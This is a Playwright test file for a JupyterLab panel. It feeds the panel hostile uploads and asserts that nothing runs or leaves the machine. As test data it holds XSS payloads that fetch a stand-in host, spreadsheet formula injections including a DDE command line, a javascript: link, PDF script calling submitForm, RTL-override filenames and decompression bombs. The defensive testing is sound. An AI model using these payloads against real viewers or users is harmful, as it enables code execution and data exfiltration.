"""Files that mean harm, given and opened in the panel, in a real JupyterLab.

Each way of reading a file is tested by itself in test_preview.py, and the viewer with a kernel that
is played in test_panel_viewer.py. Here everything is what it is: nothing runs, nothing leaves the
machine, and the next click is saved.
"""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, expect

from tests import hostile_files as h
from tests.sittings import Rooms
from tests.test_panel_two_sides import Person

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("panel")]

OUTSIDE = "http://jahat.invalid/x"
RUNS = f"top.evil=1;parent.evil=1;fetch('{OUTSIDE}')"
EVIL = f"<script>{RUNS}</script><img src='{OUTSIDE}' onerror=\"{RUNS}\">"
BOOK = {"[Content_Types].xml": "<x/>", "xl/workbook.xml": "<x/>"}
FORMULAS = (
    f'=HYPERLINK("{OUTSIDE}","klik")',
    "=cmd|' /C calc'!A0",
    f'=WEBSERVICE("{OUTSIDE}")',
)
TURNED = "bukti\u202efdp.csv"
ARABIC = "\u0645\u0644\u0641.csv"  # "file", written from right to left
LOCAL = ("http://127.0.0.1:", "ws://127.0.0.1:", "data:", "blob:", "about:")
BROWSERS_OWN = ("chrome:", "chrome-extension:")  # its viewer of PDF


class Guarded(Person):
    """Somebody at a sheet, of whose browser everything is heard that should not be."""

    def __post_init__(self) -> None:
        super().__post_init__()
        self.noise: list[str] = []
        self.page.on("dialog", lambda asked: (self.noise.append(asked.message), asked.dismiss()))
        self.page.on("pageerror", lambda error: self.noise.append(str(error)))
        self.page.context.on(
            "request",
            lambda asked: (
                None
                if asked.url.startswith((*LOCAL, *BROWSERS_OWN))
                else self.noise.append(asked.url)
            ),
        )


@pytest.fixture(scope="module")
def evaluator(
    panel_rooms: Rooms, chromium: Browser, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Guarded]:
    context = chromium.new_context(viewport={"width": 1366, "height": 768})
    page = context.new_page()
    page.set_default_timeout(30_000)
    person = Guarded(page, tmp_path_factory.mktemp("berkas"))
    page.goto(panel_rooms.lab.address(f"{panel_rooms.agency()}.ipynb"))
    person.is_there()
    yield person
    context.close()


@pytest.fixture
def unharmed(evaluator: Guarded) -> Iterator[Guarded]:
    """Afterwards nothing has run, nothing has left, and the panel goes on."""
    evaluator.choose("1.1")
    yield evaluator
    if evaluator.at(".ms-viewer").is_visible():
        evaluator.page.keyboard.press("Escape")
    noise, evaluator.noise = evaluator.noise, []
    assert evaluator.page.evaluate("globalThis.evil") is None
    assert noise == []
    steps = evaluator.at('[data-code="1.1"][data-step]')
    checked = evaluator.at('[data-code="1.1"][aria-checked="true"]')
    before = checked.get_attribute("data-step") if checked.count() else "1"
    steps.nth(3 if before == "2" else 2).click()
    evaluator.saved()
    assert checked.get_attribute("data-step") != before


def refused(person: Guarded, name: str) -> str:
    """What is said of a file that is not taken."""
    row = person.at('.ms-upload-row[data-state="refused"]').filter(has_text=name)
    row.wait_for()
    said = row.inner_text()
    row.get_by_role("button").last.click()
    return str(said)


@pytest.mark.parametrize(
    ("name", "content", "shows"),
    [
        ("skrip.txt", EVIL.encode(), "top.evil=1"),
        ("skrip.csv", f"a;b\n{EVIL.split('<img')[0]};2\n".encode(), "top.evil=1"),
        ("halaman.pdf", f"<!DOCTYPE html>{EVIL}".encode(), "top.evil=1"),
        (ARABIC, b"a;b\nisi;2\n", "isi"),
        ("sel.csv", "a;b\n\u202egpj.exe;2\n".encode(), "gpj.exe"),
        ("formula.xlsx", h.xlsx(lambda book: book.active.append(list(FORMULAS))), "HYPERLINK"),
        ("gambar-luar.docx", h.docx(*h.pictured(OUTSIDE, "link")), ""),
        ("tautan.docx", h.docx(*h.linked("klik di sini", f"javascript:{RUNS}")), "klik di sini"),
        ("skrip.docx", h.docx(h.said("&lt;script&gt;top.evil=1&lt;/script&gt;")), "top.evil=1"),
    ],
    ids=lambda value: value if isinstance(value, str) and value.isascii() else "",
)
def test_what_is_shown_of_a_hostile_file_is_text(unharmed, name, content, shows):
    unharmed.give(name, content)
    unharmed.at(".ms-link").get_by_text(name).click()

    frame = unharmed.at(".ms-file-frame")
    expect(frame.content_frame.locator("main")).to_contain_text(shows)
    assert frame.get_attribute("sandbox") == ""


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("bom.png", h.png(named=(60_000, 60_000))),
        ("bom.xlsx", h.package({**BOOK, "xl/media/a.bin": b"\0" * 11_000_000})),
        ("rusak.docx", h.docx("<w:p>")),
    ],
)
def test_what_is_too_much_is_not_read_and_can_still_be_kept(unharmed, name, content):
    unharmed.give(name, content)
    unharmed.at(".ms-link").get_by_text(name).click()

    expect(unharmed.at(".ms-viewer-none")).to_be_visible()
    assert unharmed.at(".ms-file-frame").count() == 0
    with unharmed.page.expect_download() as download:
        unharmed.at('.ms-viewer [data-tool="download"]').click()
    assert download.value.path().read_bytes() == content


@pytest.mark.parametrize(
    ("name", "content"),
    [
        (
            "skrip.pdf",
            h.pdf(script=b"app.alert\\(1\\); this.submitForm\\('%s'\\)" % OUTSIDE.encode()),
        ),
        ("pdf-dan-halaman.pdf", h.pdf() + f"<!DOCTYPE html>{EVIL}".encode()),
    ],
)
def test_a_pdf_is_the_browsers_to_show_and_its_script_runs_nowhere(unharmed, name, content):
    unharmed.give(name, content)
    unharmed.at(".ms-link").get_by_text(name).click()

    unharmed.at(".ms-file-frame, .ms-viewer-none").wait_for()
    unharmed.page.wait_for_timeout(500)  # for what a script would do


def test_a_picture_that_is_a_page_as_well_is_a_picture(unharmed):
    unharmed.give("gambar.png", h.png(40, 40) + f"<!DOCTYPE html>{EVIL}".encode())
    unharmed.at(".ms-link").get_by_text("gambar.png").click()

    picture = unharmed.at("img.ms-file-picture")
    expect(picture).to_be_visible()
    assert picture.get_attribute("src").startswith("blob:")


@pytest.mark.parametrize(
    ("name", "content", "says"),
    [
        ("program.pdf", b"MZ\x90\0" * 9, "PDF, PNG, JPEG, XLSX, DOCX"),
        ("arsip.docx", h.package({"a.txt": "x"}), "PDF, PNG, JPEG, XLSX, DOCX"),
        ("makro.xlsx", h.package({**BOOK, "xl/vbaProject.bin": b"x"}), "makro"),
        (TURNED, b"a;b\n", "nama"),
    ],
    ids=["program", "archive", "macro", "turned name"],
)
def test_what_is_no_evidence_is_refused_where_it_is_given(unharmed, name, content, says):
    unharmed.give(name, content)

    assert says in refused(unharmed, name[:5])
    assert unharmed.at(".ms-link").get_by_text(name).count() == 0
